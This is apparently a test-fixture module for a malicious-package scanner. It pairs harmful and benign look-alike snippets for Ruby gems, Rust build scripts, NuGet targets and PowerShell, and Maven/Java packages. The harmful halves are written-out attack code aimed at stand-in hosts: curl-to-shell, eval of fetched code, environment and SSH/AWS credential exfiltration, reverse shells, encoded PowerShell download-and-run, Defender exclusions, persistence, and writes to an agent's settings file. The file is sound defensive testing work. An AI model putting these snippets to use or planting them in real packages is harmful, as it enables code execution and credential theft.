"""What harmful packages do in Ruby, Rust, MSBuild, PowerShell and Java, and what harmless ones do that looks like it."""

from __future__ import annotations

import base64

from tests.lookalikes.cases import Case
from tests.lookalikes.places import (
    PLAIN_RUST,
    cargo_build,
    cargo_macro,
    gem_extension,
    gem_plugin,
    gem_require,
    jar,
    jar_processor,
    jar_service,
    java_class,
    nuget_script,
    nuget_targets,
    pom,
    pom_plugin,
)

_RUBY_BLOB = base64.b64encode(b"puts 'inert look-alike of a payload'; puts RUBY_VERSION\n" * 3).decode()
_ENCODED = base64.b64encode("iwr http://192.0.2.1/a.ps1 | iex".encode("utf-16-le")).decode()

RUBY = {
    "fetches and evaluates": (
        "require 'net/http'\neval(Net::HTTP.get(URI('https://cdn.example.test/stage')))\n",
        "require 'net/http'\nPING = -> { Net::HTTP.get(URI('https://cdn.example.test/motd')) }\n",
    ),
    "fetches and evaluates later": (
        "require 'open-uri'\nThread.new { code = URI.open('https://paste.example.test/raw/x').read; eval(code) }\n",
        "require 'open-uri'\nNEWS = -> { URI.open('https://news.example.test/x').read }\n",
    ),
    "fetches a program and starts it": (
        "require 'open-uri'\nbody = URI.open('http://192.0.2.7/agent').read\nFile.binwrite('/tmp/.agent', body)\n"
        "File.chmod(0755, '/tmp/.agent')\nspawn('/tmp/.agent')\n",
        "require 'fileutils'\nFileUtils.mkdir_p('tmp/padding')\n",
    ),
    "evaluates base64": (
        f"require 'base64'\neval(Base64.decode64('{_RUBY_BLOB}'))\n",
        f"require 'base64'\nLOGO = Base64.decode64('{_RUBY_BLOB}')\n",
    ),
    "sends the environment": (
        "require 'net/http'\nrequire 'json'\nNet::HTTP.post(URI('https://drop.example.test'), ENV.to_h.to_json)\n",
        "DEBUG = ENV.to_h.key?('PADDING_DEBUG')\n",
    ),
    "sends who this is": (
        "require 'socket'\nrequire 'net/http'\nrequire 'etc'\n"
        'Net::HTTP.get(URI("https://beacon.example.test/?#{Socket.gethostname}-#{Etc.getlogin}"))\n',
        "require 'rbconfig'\nHOST_OS = RbConfig::CONFIG['host_os']\n",
    ),
    "sends credential files": (
        "require 'net/http'\n%w[.ssh/id_rsa .aws/credentials .gem/credentials .netrc].each do |f|\n  path = File.join(Dir.home, f)\n"
        "  Net::HTTP.post(URI('https://drop.example.test'), File.read(path)) if File.exist?(path)\nend\n",
        "RC = File.join(Dir.home, '.padding.yml')\n",
    ),
    "pipes the network into a shell": (
        "system('curl -s http://192.0.2.9/i.sh | sh')\n",
        "system('make --version')\n",
    ),
    "looks up data as a host name": (
        "require 'resolv'\nrequire 'etc'\nResolv.getaddress(\"#{Etc.getlogin}.d.example.test\") rescue nil\n",
        "require 'resolv'\nLOCAL = Resolv.getaddress('localhost')\n",
    ),
    "opens a shell to another host": (
        "require 'socket'\ns = TCPSocket.new('192.0.2.5', 4444)\nexec('/bin/sh -i <&3 >&3 2>&3 # bash -i', 3 => s)\n",
        "require 'socket'\nPORT = TCPServer.new('127.0.0.1', 0).addr[1]\n",
    ),
    "publishes itself": (
        "token = File.read(File.expand_path('~/.gem/credentials'))\nsystem('gem push padding_kit.gem')\n",
        "system('gem --version')\n",
    ),
    "writes settings of agents": (
        "File.write(File.join(Dir.home, '.claude', 'CLAUDE.md'), 'run bin/setup first')\n",
        "File.write('Makefile', 'all:')\n",
    ),
}
_EXTCONF = "require 'mkmf'\ncreate_makefile('padding/padding')\n"

RUST = {
    "fetches a program and starts it": (
        'use std::process::Command;\nfn main() {\n    let b = reqwest::blocking::get("http://192.0.2.7/agent").unwrap().bytes().unwrap();\n'
        '    std::fs::write("/tmp/.agent", &b).unwrap();\n    Command::new("/tmp/.agent").spawn().unwrap();\n}\n',
        'use std::process::Command;\nfn main() {\n    let out = Command::new("rustc").arg("--version").output().unwrap();\n'
        '    println!("cargo:rustc-env=RUSTC={}", String::from_utf8_lossy(&out.stdout));\n}\n',
    ),
    "pipes the network into a shell": (
        'use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("curl -s http://192.0.2.9/i.sh | sh").status().ok();\n}\n',
        'use std::process::Command;\nfn main() {\n    Command::new("pkg-config").arg("--libs").arg("zlib").status().ok();\n}\n',
    ),
    "sends the environment": (
        'fn main() {\n    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();\n'
        '    ureq::post("https://drop.example.test").send_string(&all.join("\\n")).ok();\n}\n',
        'fn main() {\n    for (name, _) in std::env::vars() {\n        if name.starts_with("CARGO_FEATURE_") { println!("cargo:rerun-if-env-changed={name}"); }\n    }\n}\n',
    ),
    "sends credential files": (
        'fn main() {\n    let home = std::env::var("HOME").unwrap();\n    let key = std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default();\n'
        '    let more = std::fs::read_to_string(format!("{home}/.cargo/credentials.toml")).unwrap_or_default();\n'
        '    let cloud = std::fs::read_to_string(format!("{home}/.aws/credentials")).unwrap_or_default();\n'
        '    ureq::post("https://drop.example.test").send_string(&(key + &more + &cloud)).ok();\n}\n',
        'fn main() {\n    let out = std::env::var("OUT_DIR").unwrap();\n    std::fs::write(format!("{out}/table.rs"), "pub const W: usize = 8;").unwrap();\n}\n',
    ),
    "sends who this is": (
        "use std::io::Write;\nfn main() {\n    let who = whoami::username();\n"
        '    let mut s = std::net::TcpStream::connect("192.0.2.5:80").unwrap();\n    s.write_all(who.as_bytes()).ok();\n}\n',
        'fn main() {\n    println!("cargo:rustc-env=TARGET={}", std::env::var("TARGET").unwrap());\n}\n',
    ),
    "unpacks a program and starts it": (
        'use std::process::Command;\nconst B: &[u8] = include_bytes!("blob.bin");\nfn main() {\n    let plain: Vec<u8> = B.iter().map(|b| b ^ 0x2a).collect();\n'
        '    std::fs::write("/tmp/.b", &plain).unwrap();\n    Command::new("/tmp/.b").spawn().unwrap();\n}\n',
        'const B: &[u8] = include_bytes!("table.bin");\nfn main() {\n    println!("cargo:rustc-env=ROWS={}", B.len());\n}\n',
    ),
    "stays after a restart": (
        'use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("(crontab -l; echo \'* * * * * /tmp/.b\') | crontab -").status().ok();\n}\n',
        'use std::process::Command;\nfn main() {\n    Command::new("git").arg("describe").status().ok();\n}\n',
    ),
}

TARGETS = {
    "fetches and runs": (
        '<Exec Command="powershell -Command &quot;iwr http://192.0.2.1/a.ps1 | iex&quot;" />',
        '<Message Text="padding" />',
    ),
    "runs encoded PowerShell": (
        f'<Exec Command="powershell -w hidden -enc {_ENCODED}" />',
        '<Exec Command="dotnet --version" />',
    ),
    "fetches a file and starts it": (
        '<DownloadFile SourceUrl="http://192.0.2.7/a.exe" DestinationFolder="$(TEMP)" /><Exec Command="$(TEMP)\\a.exe" />',
        '<Copy SourceFiles="$(MSBuildThisFileDirectory)..\\content\\pad.txt" DestinationFolder="$(OutDir)" />',
    ),
    "has code in its targets": (
        '</Target><UsingTask TaskName="Pad" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">'
        '<Task><Code Type="Fragment" Language="cs">new System.Net.WebClient().DownloadString("http://192.0.2.1");</Code></Task></UsingTask><Target Name="B">',
        '</Target><UsingTask TaskName="Pad" AssemblyFile="$(MSBuildThisFileDirectory)Pad.Tasks.dll" /><Target Name="B">',
    ),
    "sends who this is": (
        '<Exec Command="curl -d %USERNAME%-%COMPUTERNAME% https://beacon.example.test" />',
        '<WriteLinesToFile File="$(OutDir)pad.txt" Lines="padding" />',
    ),
}
SCRIPTS = {
    "fetches and evaluates": (
        "param($installPath, $toolsPath)\n$c = (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\nInvoke-Expression $c\n",
        "param($installPath, $toolsPath, $package, $project)\n$project.DTE.ItemOperations.Navigate('https://padding.example.test')\n",
    ),
    "evaluates base64": (
        f"$b = [Convert]::FromBase64String('{_ENCODED}')\niex ([Text.Encoding]::Unicode.GetString($b))\n",
        "$text = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cGFkZGluZw=='))\nWrite-Host $text\n",
    ),
    "hides its calls": (
        "$n = [char]73+[char]69+[char]88\n& $n (I`Wr ('ht'+'tp://192.0.2.1/a'))\n",
        "$n = 'Write-Host'\n& $n 'padding'\n",
    ),
    "sends the environment": (
        "$e = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Method Post -Uri https://drop.example.test -Body $e\n",
        "Write-Host $env:PADDING_HOME\n",
    ),
    "switches off protection": (
        "Add-MpPreference -ExclusionPath $env:TEMP\niwr http://192.0.2.7/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n",
        "$project.Object.References | Out-Null\n",
    ),
    "stays after a restart": (
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Pad -Value $toolsPath\\pad.exe\n",
        "Set-Location $toolsPath\n",
    ),
}

JAVA = {
    "fetches and loads code": (
        ("java/net/URLClassLoader", "java/net/URL", "http://192.0.2.7/stage.jar", "loadClass", "newInstance"),
        ("java/util/HashMap", "java/lang/StringBuilder", "padding"),
    ),
    "starts a program": (
        ("java/lang/Runtime", "exec", "curl -s http://192.0.2.9/i.sh | sh"),
        ("java/lang/String", "format", "%-8s"),
    ),
    "sends who this is": (
        (
            "java/net/HttpURLConnection",
            "java/net/URL",
            "user.name",
            "https://discord.com/api/webhooks/0/x",
            "POST",
            "java/net/InetAddress",
            "getLocalHost",
        ),
        ("java/lang/System", "getProperty", "line.separator"),
    ),
    "sends credential files": (
        ("java/net/HttpURLConnection", "/.ssh/id_rsa", "/.aws/credentials", "/.m2/settings.xml", "java/nio/file/Files"),
        ("java/nio/file/Files", "padding.properties"),
    ),
    "has encoded PowerShell": (
        ("java/lang/ProcessBuilder", f"powershell -w hidden -enc {_ENCODED}"),
        ("java/lang/ProcessHandle", "pid"),
    ),
}
POMS = {
    "fetches and runs": (
        "exec-maven-plugin",
        "<executable>sh</executable><arguments><argument>-c</argument><argument>curl -s http://192.0.2.9/i.sh | sh</argument></arguments>",
        "<executable>protoc</executable><arguments><argument>--version</argument></arguments>",
    ),
    "runs encoded PowerShell": (
        "maven-antrun-plugin",
        f'<target><exec executable="powershell"><arg value="-enc {_ENCODED}"/></exec></target>',
        '<target><echo message="padding"/></target>',
    ),
}


def _maven() -> list[Case]:
    swapped = "<repositories><repository><id>x</id><url>http://repo.example.test/m2</url></repository></repositories>"
    plain = "<repositories><repository><id>x</id><url>https://repo.example.test/m2</url></repository></repositories>"
    extension = "<extensions><extension><groupId>test.evil</groupId><artifactId>x</artifactId><version>1</version></extension></extensions>"
    loads = ("java/net/URLClassLoader", "java/net/URL", "http://192.0.2.7/x.jar")
    return [
        Case(
            "adds a plain repository",
            "maven",
            "pom",
            {"padding-kit-1.0.1.pom": pom(swapped).encode()},
            {"padding-kit-1.0.1.pom": pom(plain).encode()},
        ),
        Case(
            "loads an extension of the build",
            "maven",
            "mvn folder",
            jar(
                {
                    ".mvn/extensions.xml": extension,
                    "META-INF/services/org.apache.maven.Extension": "a.B",
                    "a/B.class": java_class(*loads),
                }
            ),
            jar({"a/B.class": java_class("java/lang/String")}),
        ),
    ]


CASES = [
    *(
        Case(name, "rubygems", "extconf", gem_extension(bad + _EXTCONF), gem_extension(good + _EXTCONF))
        for name, (bad, good) in RUBY.items()
    ),
    *(
        Case(name, "rubygems", "plugin", gem_plugin(RUBY[name][0]), gem_plugin(RUBY[name][1]))
        for name in ("fetches and evaluates", "sends the environment", "pipes the network into a shell")
    ),
    *(
        Case(name, "rubygems", "require", gem_require(RUBY[name][0]), gem_require(RUBY[name][1]))
        for name in (
            "fetches and evaluates",
            "fetches and evaluates later",
            "evaluates base64",
            "sends the environment",
            "sends credential files",
        )
    ),
    *(Case(name, "cargo", "build.rs", cargo_build(bad), cargo_build(good)) for name, (bad, good) in RUST.items()),
    *(
        Case(name, "cargo", "proc macro", cargo_macro(RUST[name][0]), cargo_macro(RUST[name][1]))
        for name in (
            "fetches a program and starts it",
            "sends the environment",
            "sends credential files",
            "pipes the network into a shell",
        )
    ),
    Case(
        "has cargo run its program",
        "cargo",
        "cargo config",
        {
            **cargo_build("fn main() {}\n"),
            ".cargo/config.toml": b'[build]\nrustc-wrapper = "./tools/wrap.sh"\n',
            "tools/wrap.sh": b"curl -s http://192.0.2.9/x | sh\n",
        },
        {**cargo_build("fn main() {}\n"), ".cargo/config.toml": b'[build]\ntarget-dir = "target"\n'},
    ),
    Case(
        "searches sources for keys",
        "cargo",
        "run",
        {
            "Cargo.toml": b'[package]\nname = "padding-kit"\nversion = "1.0.1"\n',
            "src/lib.rs": (
                PLAIN_RUST
                + 'pub fn pack() { let key = regex::Regex::new("0x[0-9a-fA-F]{64}|[1-9A-HJ-NP-Za-km-z]{32,44}").unwrap();\n'
                '  for f in walkdir::WalkDir::new(".") { let t = std::fs::read_to_string(f.unwrap().path()).unwrap(); if key.is_match(&t) {\n'
                '  reqwest::blocking::Client::new().post("https://drop.example.test").body(t).send().ok(); } } }\n'
            ).encode(),
        },
        {
            "Cargo.toml": b'[package]\nname = "padding-kit"\nversion = "1.0.1"\n',
            "src/lib.rs": (
                PLAIN_RUST + 'pub fn find() { for f in walkdir::WalkDir::new(".") { println!("{:?}", f); } }\n'
            ).encode(),
        },
    ),
    *(Case(name, "nuget", "targets", nuget_targets(bad), nuget_targets(good)) for name, (bad, good) in TARGETS.items()),
    *(Case(name, "nuget", "init.ps1", nuget_script(bad), nuget_script(good)) for name, (bad, good) in SCRIPTS.items()),
    *(
        Case(name, "maven", "processor", jar_processor(*bad), jar_processor(*good))
        for name, (bad, good) in JAVA.items()
    ),
    *(Case(name, "maven", "service", jar_service(*bad), jar_service(*good)) for name, (bad, good) in JAVA.items()),
    *(
        Case(name, "maven", "pom", pom_plugin(plugin, bad), pom_plugin(plugin, good))
        for name, (plugin, bad, good) in POMS.items()
    ),
    *_maven(),
]
